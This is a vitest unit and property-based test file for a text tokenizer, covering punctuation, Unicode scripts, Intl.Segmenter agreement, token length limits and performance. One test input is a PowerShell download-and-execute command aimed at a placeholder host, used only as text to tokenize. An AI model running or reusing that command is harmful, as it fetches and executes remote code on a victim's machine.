import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { analyze } from "./analyze.ts";

describe("analyze", () => {
  const cases: readonly [text: string, tokens: readonly string[]][] = [
    ["", []],
    [
      "The 2 QUICK Brown-Foxes jumped over the lazy dog's bone.",
      ["the", "2", "quick", "brown", "foxes", "jumped", "over", "the", "lazy", "dog's", "bone"],
    ],
    [
      "IEX (New-Object Net.WebClient).DownloadString('http://a.b/c')",
      ["iex", "new", "object", "net.webclient", "downloadstring", "http", "a.b", "c"],
    ],
    ["C:\\Windows\\System32\\cmd.exe /c", ["c", "windows", "system32", "cmd.exe", "c"]],
    ["foo_bar _x __ x_ ___y1z __é __\u203f__", ["foo_bar", "_x", "x_", "___y1z", "__é"]],
    ["10.0.0.1 1,234.5 3. .5 v1.2 a.1", ["10.0.0.1", "1,234.5", "3", "5", "v1.2", "a", "1"]],
    ["can't 'quoted' rock'n'roll", ["can't", "quoted", "rock'n'roll"]],
    ["a:b a: b", ["a:b", "a", "b"]],
    ["x=1;y=2 a@b.com #tag $var", ["x", "1", "y", "2", "a", "b.com", "tag", "var"]],
    ["café ÉCOLE e\u0301t", ["café", "école", "e\u0301t"]],
    ["漢字ひらカタカナ", ["漢", "字", "ひ", "ら", "カタカナ"]],
    ["한국어 привет", ["한국어", "привет"]],
    ["٣٤ a\u200bb", ["٣٤", "a", "b"]],
    ["😀x", ["😀", "x"]],
    ["\ud800x", ["x"]],
  ];
  test.each(cases)("%s", (text, tokens) => expect(analyze(text)).toEqual(tokens));

  test("is as Unicode's own segmenter says, on words of the common scripts", () => {
    const segmenter = new Intl.Segmenter("en", { granularity: "word" });
    const character = fc.constantFrom(..."aZé1٣_.:,;'’- \u0301\u200d/\\ЯλХ".split(""));
    fc.assert(
      fc.property(fc.string({ unit: character, maxLength: 12 }), (text) => {
        const words = Array.from(segmenter.segment(text), (part) => part.segment).filter((segment) => /[\p{L}\p{Nd}]/u.test(segment));
        expect(analyze(text)).toEqual(words.map((word) => word.toLowerCase()));
      }),
      { numRuns: 3000 },
    );
  });

  test("tokens past 255 characters are cut", () => {
    expect(analyze("a".repeat(600)).map((token) => token.length)).toEqual([255, 255, 90]);
  });

  test("long text takes linear time", () => {
    const start = performance.now();
    analyze("a.".repeat(500_000));
    analyze("\u0301".repeat(500_000));
    expect(performance.now() - start).toBeLessThan(5000);
  });
});
